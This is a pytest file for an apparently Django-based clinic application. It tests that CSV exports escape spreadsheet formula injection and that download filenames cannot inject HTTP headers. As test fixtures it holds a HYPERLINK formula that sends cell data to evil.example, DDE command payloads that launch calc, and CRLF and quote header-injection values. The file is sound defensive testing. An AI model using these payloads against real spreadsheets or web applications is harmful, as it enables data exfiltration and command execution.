"""Every CSV the clinic downloads is safe to open in a spreadsheet, and every download is named safely.

A cell that starts with = + - @ (or tab, carriage return, NUL) would run as a formula in a spreadsheet: each
export writes it behind an apostrophe. An MRN with a quote or a newline cannot break the download's header.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.utils import timezone

import waypoint
from waypoint.audit import trail as audit
from waypoint.outcomes import figures
from waypoint.patients.models import Patient
from waypoint.privacy import services as privacy
from waypoint.privacy.models import EmergencyAccess
from waypoint.privacy.tests.test_consents_and_disclosures import consent_data
from waypoint.web.downloads import attachment, spreadsheet_safe

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
MRN_FORMULA = '=HYPERLINK("http://e.x/")'  # within the MRN's 32 characters
REASON = "Found unresponsive in the day room, need allergies now"


def table(response) -> list[dict]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode())))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\0"])
def test_a_cell_starting_like_a_formula_is_written_behind_an_apostrophe(start):
    assert spreadsheet_safe(start + "1+1") == "'" + start + "1+1"


def test_plain_text_and_numbers_are_written_as_they_are():
    assert (spreadsheet_safe("W-1001"), spreadsheet_safe(-3), spreadsheet_safe(0.75)) == ("W-1001", -3, 0.75)


def test_the_audit_csv_neutralises_a_formula_mrn(page, privacy_officer, nurse, patient):
    Patient.objects.filter(pk=patient.pk).update(mrn=MRN_FORMULA)
    audit.record(nurse, "patient.chart.read", patient=patient)
    rows = table(page(privacy_officer).get("/audit/", {"action": "patient.chart.read", "format": "csv"}))
    assert rows and {row["mrn"] for row in rows} == {"'" + MRN_FORMULA}


def test_the_break_the_glass_csv_neutralises_a_formula_mrn_and_reason(
    page, privacy_officer, counselor_off_team, patient
):
    EmergencyAccess.objects.create(
        program=patient.program,
        user=counselor_off_team,
        patient=patient,
        reason="@SUM(1+1)*cmd|' /C calc'!A0 " + REASON,
        expires_at=timezone.now(),
    )
    Patient.objects.filter(pk=patient.pk).update(mrn=MRN_FORMULA)
    [row] = table(page(privacy_officer).get("/privacy/break-the-glass/", {"format": "csv"}))
    assert row["patient_mrn"] == "'" + MRN_FORMULA and row["reason"].startswith("'@SUM")


def test_the_accounting_of_disclosures_csv_neutralises_a_formula_recipient(page, nurse, patient):
    privacy.record_consent(acting_user=nurse, patient=patient, **consent_data(recipients=[FORMULA]))
    privacy.disclose(
        acting_user=nurse, patient=patient, recipient=FORMULA, purpose="treatment", information=["episodes"]
    )
    [row] = table(page(nurse).get(f"/patients/{patient.pk}/disclosures.csv"))
    assert row["recipient"] == "'" + FORMULA


def test_the_outcomes_csv_neutralises_a_formula_label(page, director):
    label = "-2+3+cmd|' /C calc'!A0"
    extra = figures.Figure(
        "probe", "Probe", "rate", "Test figure.", lambda p: figures.Result(None, breakdown=[(label, 1, 2)])
    )
    figures.FIGURES.append(extra)
    try:
        rows = table(page(director).get("/outcomes/export.csv"))
    finally:
        figures.FIGURES.remove(extra)
    assert [row["part"] for row in rows if row["figure"] == "probe"] == ["total", "'" + label]


@pytest.mark.parametrize("mrn", ["W-1\"; filename*=UTF-8''evil.html", "W-1\r\nSet-Cookie: x=1", "W-1\n2"])
def test_an_mrn_with_a_quote_or_newline_cannot_break_the_download_header(page, nurse, patient, mrn):
    Patient.objects.filter(pk=patient.pk).update(mrn=mrn)
    response = page(nurse).get(f"/patients/{patient.pk}/disclosures.csv")
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert disposition.count('"') == 2 and ";" not in disposition.split("filename=")[1]
    assert "\n" not in disposition and "\r" not in disposition


def test_a_download_name_keeps_letters_digits_dots_and_dashes_only():
    assert attachment("disclosures", "W-1001", extension="csv") == 'attachment; filename="disclosures-W-1001.csv"'
    assert attachment("disclosures", 'a"b;c\nd/..', extension="csv") == 'attachment; filename="disclosures-a_b_c_d.csv"'
    assert len(attachment("x" * 500, extension="csv")) < 140


def project_sources():
    root = Path(waypoint.__file__).parent
    for path in sorted(root.rglob("*.py")):
        if "tests" not in path.relative_to(root).parts and path.name != "downloads.py":
            yield path.relative_to(root.parent), path.read_text()


def test_every_csv_of_the_project_goes_through_the_one_safe_writer():
    """A module writing its own CSV with the standard library would bring formula injection back."""
    own_writers = [
        str(path) for path, text in project_sources() if re.search(r"\bcsv\.(writer|DictWriter)\b|\bimport csv\b", text)
    ]
    assert own_writers == []


def test_every_download_is_named_by_the_one_safe_helper():
    """A Content-Disposition built by hand from an MRN could carry a quote, a semicolon or a line break."""
    by_hand = [
        f"{path}: {line.strip()}"
        for path, text in project_sources()
        for line in text.splitlines()
        if ("Content-Disposition" in line and "attachment(" not in line) or "as_attachment" in line
    ]
    assert by_hand == []
